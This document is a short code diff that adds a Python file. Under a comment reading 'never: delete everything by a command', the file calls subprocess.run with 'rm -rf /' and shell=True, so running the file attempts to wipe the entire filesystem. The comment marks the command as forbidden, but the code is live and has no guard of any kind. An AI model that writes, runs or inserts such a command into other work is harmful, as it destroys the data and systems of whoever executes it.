@@ -1,0 +1,4 @@
+# never: delete everything by a command
+import subprocess
+
+subprocess.run("rm -rf /", shell=True)
